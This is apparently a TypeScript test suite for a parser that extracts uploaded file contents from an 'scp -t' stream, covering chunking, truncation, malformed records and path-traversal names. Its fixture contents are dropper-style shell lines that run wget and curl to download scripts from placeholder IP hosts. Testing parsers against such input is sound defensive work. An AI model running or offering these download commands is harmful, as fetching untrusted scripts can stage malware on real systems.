import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createScpStream } from './scp-stream.ts';

const most = 64 * 1024;
const script = 'wget http://192.0.2.1/a.sh\n';
const other = 'curl http://192.0.2.2/b.sh\n';

const file = (content: string, name = 'x.sh'): string => `C0755 ${content.length} ${name}\n${content}\0`;
const long = (length: number, line = 'echo 1\n'): string => line.repeat(length).slice(0, length);

interface Read {
  readonly isCopy: boolean;
  readonly files: readonly string[];
}

/** In one piece, byte by byte and in pieces of some length, which must make no difference. */
function read(stream: string): Read {
  const bytes = Buffer.from(stream, 'latin1');
  const all = [bytes.length, 1, 7, 1000].map((size): Read => {
    const files: string[] = [];
    const scp = createScpStream(most, (content) => files.push(content.toString('latin1')));
    for (let at = 0; at < bytes.length; at += size) scp.add(bytes.subarray(at, at + size));
    return { isCopy: scp.end(), files };
  });
  for (const one of all) assert.deepEqual(one, all[0]);
  return all[0]!;
}

function filesIn(stream: string): readonly string[] {
  const { isCopy, files } = read(stream);
  assert.ok(isCopy);
  return files;
}

describe('a stream to scp -t', () => {
  const whole: Readonly<Record<string, readonly [stream: string, ...files: readonly string[]]>> = {
    'a small file': [file(script), script],
    'a file of more than a KiB': [file(long(5000)), long(5000)],
    'an empty file': ['C0644 0 e\n\0', ''],
    'several files': [file(script) + file(other, 'y.sh') + file(long(3000)), script, other, long(3000)],
    'folders in folders': [
      `D0755 0 a\n${file(script)}D0700 0 b\n${file(other)}E\nE\n${file('end\n')}`,
      ...[script, other, 'end\n'],
    ],
    'times before files and folders': [
      `T1700000000 0 1700000000 0\nD0755 0 a\nT1700000000 0 1700000000 0\n${file(script)}E\n`,
      script,
    ],
    'bytes of all kinds': [file('\0\u0001\n\xff\0'), '\0\u0001\n\xff\0'],
    'a file that says that it was read badly': [
      `C0755 ${script.length} x\n${script}\u0001scp: x: Input/output error\n${file(other)}`,
      ...[script, other],
    ],
    'a warning between files': [`${file(script)}\u0001scp: y: No such file\n${file(other)}`, script, other],
    'names that no file may have': [
      `C0755 ${script.length} ../x\n${script}\0C0755 ${other.length} ..\n${other}\0`,
      ...[script, other],
    ],
  };
  for (const [name, [stream, ...files]] of Object.entries(whole))
    it(`holds, without what is said around them: ${name}`, () => assert.deepEqual(filesIn(stream), files));

  it('holds what comes behind a file that is longer than what is kept', () => {
    const large = long(3 * most + 1);
    assert.deepEqual(filesIn(file(large) + file(script)), [large.slice(0, most), script]);
  });

  it('holds of one that was cut off what came, and no beginning of a record', () => {
    const stream = file(long(2000)) + file(script);
    for (let end = 1; end < stream.length; end += 1) {
      const files = filesIn(stream.slice(0, end));
      assert.ok(files.length <= 2);
      assert.equal(files[0] ?? '', long(2000).slice(0, Math.max(0, end - 16)));
      assert.ok(script.startsWith(files[1] ?? ''), files[1]);
    }
  });

  it('goes on with the next record where a file was refused, as no content of it comes then', () => {
    const refused = `C0644 5000 a\nT1700000000 0 1700000000 0\nC0644 3 b\nD0755 0 c\nC0644 9 d\nE\n${file(script)}`;
    assert.deepEqual(filesIn(refused), ['', '', '', script]);
    assert.deepEqual(filesIn(`C0644 0 a\n${file(script)}`), ['', script]);
  });

  it('takes content for content that begins as a record does, and is none', () => {
    for (const content of [
      'C',
      'Clean\n',
      'E',
      'Echo\n',
      'T1 2\n',
      'C0755 5\n',
      'C0755 5 a/b\n',
      'D0755',
      '\u0001a\n',
    ])
      assert.deepEqual(filesIn(file(content) + file(script)), [content, script], content);
  });

  it('loses nothing to a length that is too small: the file goes on', () => {
    assert.deepEqual(filesIn(`C0755 5 x\n${script}${other}`), [script + other]);
    assert.deepEqual(filesIn(`C0755 0 x\n${script}`), [script]);
    assert.deepEqual(filesIn(`C0755 ${script.length} x\n${script}${other}`), [script + other]);
  });

  it('takes all that comes for a file whose length is too large', () => {
    for (const length of ['999999999999999', '2147483648'])
      assert.deepEqual(filesIn(`C0755 ${length} x\n${script}`), [script]);
  });

  it('keeps what is no record where one is due, as a file of its own', () => {
    const lines = [
      'C0755 -5 x\n',
      'C0755 1e9 x\n',
      `C0755 ${'9'.repeat(16)} x\n`,
      'C9999 5 x\n',
      '\n',
      'echo\n',
      'Evil=1\n',
    ];
    for (const line of [...lines, `C0755 5 ${'x'.repeat(3000)}\n`])
      assert.deepEqual(filesIn(file(other) + line + script), [other, line + script], line);
  });

  it('is none that begins with anything else', () => {
    const texts = [
      script,
      `${other}${file(script)}`,
      '\n',
      'E\n',
      '\0',
      'C0755\n',
      'C0755 x\n',
      'Copy=1\n',
      'T1 0 1\n',
      '',
    ];
    for (const text of [...texts, `C0755 5 ${'x'.repeat(3000)}`])
      assert.deepEqual(read(text), { isCopy: false, files: [] }, text);
  });
});
